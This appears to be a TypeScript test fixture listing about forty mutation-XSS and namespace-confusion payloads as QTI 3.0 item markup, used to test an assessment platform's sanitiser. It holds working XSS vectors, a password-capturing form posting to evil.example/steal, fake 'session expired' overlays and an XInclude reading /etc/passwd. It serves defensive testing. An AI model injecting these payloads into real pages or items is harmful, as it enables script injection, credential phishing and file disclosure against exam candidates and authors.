/**
 * Mutation-XSS and namespace-confusion vectors (issue 26, finding 3), as QTI 3.0 item markup: the
 * sanitiser's unit test (item-bank/qti/sanitise.test.ts) and the browser test that imports them and
 * opens them as a candidate and an author (system-tests/browser/hostile-markup.test.ts) share them.
 */
import { MATHML_NAMESPACE, SVG_NAMESPACE } from '../model/content-allow-list.ts';

const QTI3 = 'http://www.imsglobal.org/xsd/imsqtiasi_v3p0';
const XHTML = 'http://www.w3.org/1999/xhtml';

/** A QTI 3.0 item whose body holds `body`, with the prefixes the vectors use declared. */
export const vectorItem = (
  body: string,
  head = '',
  identifier = 'vector',
) => `<?xml version="1.0" encoding="UTF-8"?>
<qti-assessment-item xmlns="${QTI3}" xmlns:m="${MATHML_NAMESPACE}" xmlns:svg="${SVG_NAMESPACE}"
  xmlns:h="${XHTML}" xmlns:xlink="http://www.w3.org/1999/xlink" identifier="${identifier}" title="${identifier}">
  <qti-response-declaration identifier="RESPONSE" cardinality="single" base-type="identifier">
    <qti-correct-response><qti-value>A</qti-value></qti-correct-response>
  </qti-response-declaration>
  <qti-outcome-declaration identifier="SCORE" cardinality="single" base-type="float"/>
  ${head}
  <qti-item-body>
    ${body}
    <qti-choice-interaction response-identifier="RESPONSE" max-choices="1">
      <qti-simple-choice identifier="A">A</qti-simple-choice>
      <qti-simple-choice identifier="B">B</qti-simple-choice>
    </qti-choice-interaction>
  </qti-item-body>
  <qti-response-processing template="https://purl.imsglobal.org/spec/qti/v3p0/rptemplates/match_correct.xml"/>
</qti-assessment-item>`;

/** Mutation-XSS and namespace-confusion vectors, as item body markup. */
export const VECTORS: Record<string, string> = {
  'prefixed MathML iframe': `<m:iframe src="https://evil.example/"/>`,
  'prefixed MathML form with a password field': `<m:form action="https://evil.example/steal"><m:input type="password" name="p"/><m:button>Đăng nhập</m:button></m:form>`,
  'prefixed MathML base': `<m:base href="https://evil.example/"/><img src="a.png" alt=""/>`,
  'prefixed MathML meta refresh': `<m:meta http-equiv="refresh" content="8;url=https://evil.example/"/>`,
  'MathML meta refresh inside math': `<math xmlns="${MATHML_NAMESPACE}"><meta http-equiv="refresh" content="0;url=https://evil.example/"/><mi>x</mi></math>`,
  'math mtext table mglyph style': `<math xmlns="${MATHML_NAMESPACE}"><mtext><h:table><mglyph><style>&lt;img src=x onerror=alert(1)&gt;</style></mglyph></h:table></mtext></math>`,
  'math mtext XHTML table mglyph XHTML style': `<m:math><m:mtext><h:table><h:mglyph><h:style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</h:style></h:mglyph></h:table></m:mtext></m:math>`,
  'math malignmark and annotation-xml text/html': `<m:math><m:semantics><m:mi>x</m:mi><m:annotation-xml encoding="text/html"><h:img src="x" onerror="alert(1)"/></m:annotation-xml></m:semantics><m:malignmark/></m:math>`,
  'math href and maction statusline': `<m:math href="javascript:alert(1)"><m:maction actiontype="statusline" xlink:href="javascript:alert(1)"><m:mi>x</m:mi><m:mtext>hi</m:mtext></m:maction></m:math>`,
  'XHTML inside a MathML token': `<m:math><m:mi><h:img src="x" onerror="alert(1)"/><h:a href="javascript:alert(1)">x</h:a></m:mi></m:math>`,
  'MathML element outside math': `<m:mi style="position:fixed;top:0">x</m:mi><m:mtext onclick="alert(1)">y</m:mtext>`,
  'SVG a with xlink:href javascript': `<svg:svg><svg:a xlink:href="javascript:alert(1)"><svg:text>click</svg:text></svg:a></svg:svg>`,
  'SVG use of an outside document': `<svg:svg><svg:use href="https://evil.example/sprite.svg#x"/><svg:use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg:svg>`,
  'SVG foreignObject with an iframe srcdoc': `<svg:svg><svg:foreignObject><h:iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></svg:foreignObject></svg:svg>`,
  'SVG script, onload and style': `<svg:svg onload="alert(1)"><svg:script>alert(1)</svg:script><svg:style>@import url(https://evil.example/x.css);</svg:style></svg:svg>`,
  'SVG animate and set': `<svg:svg><svg:rect width="1" height="1"><svg:animate attributeName="href" to="javascript:alert(1)"/><svg:set attributeName="onmouseover" to="alert(1)"/></svg:rect></svg:svg>`,
  'SVG image and paint from outside': `<svg:svg><svg:image href="javascript:alert(1)"/><svg:rect fill="url(https://evil.example/x.svg#p)" width="1" height="1"/></svg:svg>`,
  'SVG element outside svg': `<svg:rect width="1" height="1" onclick="alert(1)"/>`,
  'SVG title holding XHTML': `<svg:svg><svg:title><h:iframe src="https://evil.example/"/><h:img src="x" onerror="alert(1)"/>t</svg:title></svg:svg>`,
  'iframe with srcdoc': `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>`,
  'XHTML-namespaced upper-case IFRAME and Script': `<h:IFRAME src="https://evil.example/"/><h:Script>alert(1)</h:Script>`,
  'QTI 3 spelling of iframe and script': `<qti-iframe src="https://evil.example/"/><qti-script>alert(1)</qti-script>`,
  'namespace confusion: XHTML namespace with a trailing space': `<x:script xmlns:x="${XHTML} ">alert(1)</x:script><x:iframe xmlns:x="${XHTML} " src="https://evil.example/"/>`,
  'object embedding a page': `<object data="https://evil.example/page.html" type="text/html">fallback</object><embed src="https://evil.example/x.swf"/>`,
  'form with formaction': `<form action="https://evil.example/"><button formaction="javascript:alert(1)">Gửi</button><input name="x"/></form><p formaction="javascript:alert(1)">p</p>`,
  'event handlers in every spelling': `<div onclick="alert(1)" ONMOUSEOVER="alert(1)" on-click="alert(1)">x</div><details open="open" ontoggle="alert(1)"><summary>s</summary></details>`,
  'style with url(javascript:)': `<div style="background:url(javascript:alert(1))">a</div><div style="background:url(&quot;javas\\cript:alert(1)&quot;)">b</div><div style="width:expression(alert(1))">c</div>`,
  'style that covers the exam page': `<div style="position: fixed; inset: 0; z-index: 9999">Phiên đã hết hạn</div>`,
  'style with comments hiding a url': `<div style="background:u/**/rl(javascript:alert(1))">d</div>`,
  'javascript: links with hidden whitespace and case': `<a href="jav&#x09;ascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="&#x0A;javascript:alert(1)">c</a><a href="vbscript:msgbox(1)">d</a>`,
  'data: documents': `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" alt=""/>`,
  'srcset with a javascript candidate': `<img srcset="javascript:alert(1) 1x, ok.png 2x" src="ok.png" alt=""/>`,
  'xml:base and target=_top': `<div xml:base="https://evil.example/"><a href="https://evil.example/" target="_top">x</a></div>`,
  'noscript, template, xmp and title': `<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">n</p></noscript><template><script>alert(1)</script></template><xmp>&lt;img src=x onerror=alert(1)&gt;</xmp><h:title>t</h:title>`,
  'link and meta in XHTML': `<h:link rel="stylesheet" href="https://evil.example/x.css"/><h:meta http-equiv="refresh" content="0;url=https://evil.example/"/>`,
  'foreign markup carrying handlers and URLs': `<x:widget xmlns:x="urn:example:widget" onload="alert(1)" href="javascript:alert(1)" srcdoc="x"><x:iframe src="https://evil.example/"/></x:widget>`,
  'XInclude of a local file': `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`,
  'modal feedback vector': ``,
  'outside stylesheet': ``,
};
export const HEADS: Record<string, string> = {
  'modal feedback vector': `<qti-outcome-declaration identifier="FEEDBACK" cardinality="single" base-type="identifier"/>
    <qti-modal-feedback outcome-identifier="FEEDBACK" identifier="x" show-hide="show"><m:iframe src="https://evil.example/"/><div onclick="alert(1)">f</div></qti-modal-feedback>`,
  'outside stylesheet': `<qti-stylesheet href="https://evil.example/x.css" type="text/css"/>`,
};
